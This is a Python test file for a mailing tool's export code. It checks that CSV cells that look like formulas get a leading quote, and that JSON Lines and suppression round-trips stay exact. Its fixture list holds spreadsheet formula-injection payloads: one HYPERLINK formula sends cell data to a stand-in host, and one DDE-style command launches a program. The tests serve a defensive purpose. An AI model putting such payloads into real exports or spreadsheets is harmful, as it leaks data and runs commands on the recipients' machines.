"""Exports opened in a spreadsheet run nothing: CSV cells that could start a formula are
neutralised (OWASP: a leading '), JSON Lines stays exact, and a suppressions export imports
back exactly. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import text

from bulkmail.audience import suppressions as sup
from bulkmail.db.engine import Database
from bulkmail.reports.export import export_events, spreadsheet_safe, spreadsheet_value

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tindented",
    "\rreturn",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_cell_gets_a_quote_and_comes_back(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_value(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["", "plain", "5.1.1", "'quoted", 550, -1, 2.5, None])
def test_other_cells_and_numbers_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _events(db: Database) -> None:
    with db.session() as s:
        s.execute(
            text("""INSERT INTO events (kind, campaign_id, email, code, enhanced, text,
                          attempt, source, created_at) VALUES ('bounced', 1, :e, 550, '5.1.1',
                          :t, 1, 'engine', 1000)"""),
            [
                {"e": "-dash@x.test", "t": HOSTILE[0]},
                {"e": "ok@x.test", "t": "@SUM(1+1) is not a mailbox"},
                {"e": "+plus@x.test", "t": "550 5.1.1 no such user"},
            ],
        )


def test_events_export_neutralises_formulas_in_csv_only(db: Database) -> None:
    _events(db)
    out = io.StringIO()
    assert export_events(db, out) == 3
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["email"], r["text"]) for r in rows] == [
        ("'-dash@x.test", "'" + HOSTILE[0]),
        ("ok@x.test", "'@SUM(1+1) is not a mailbox"),
        ("'+plus@x.test", "550 5.1.1 no such user"),
    ]
    assert [r["code"] for r in rows] == ["550"] * 3
    lines = io.StringIO()
    export_events(db, lines, fmt="jsonl")
    exact = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert [(e["email"], e["text"]) for e in exact] == [
        ("-dash@x.test", HOSTILE[0]),
        ("ok@x.test", "@SUM(1+1) is not a mailbox"),
        ("+plus@x.test", "550 5.1.1 no such user"),
    ]


def test_suppressions_export_neutralises_formulas_and_imports_back(
    db: Database, tmp_path: Path
) -> None:
    sup.add_suppression(db, "-dash@example.com", HOSTILE[0], "bounce")
    sup.add_suppression(db, "plain@example.com", "@SUM(1+1)", "+crm")
    out = io.StringIO()
    assert sup.export_csv(db, out) == 2
    rows = [r[:3] for r in csv.reader(io.StringIO(out.getvalue()))][1:]
    assert rows == [
        ["'-dash@example.com", "'" + HOSTILE[0], "bounce"],
        ["plain@example.com", "'@SUM(1+1)", "'+crm"],
    ]
    before = [(e.email, e.reason, e.source) for e in sup.iter_suppressions(db)]
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    for email, _reason, _source in before:
        sup.remove_suppression(db, email)
    assert sup.import_csv(db, path).added == 2
    assert [(e.email, e.reason, e.source) for e in sup.iter_suppressions(db)] == before
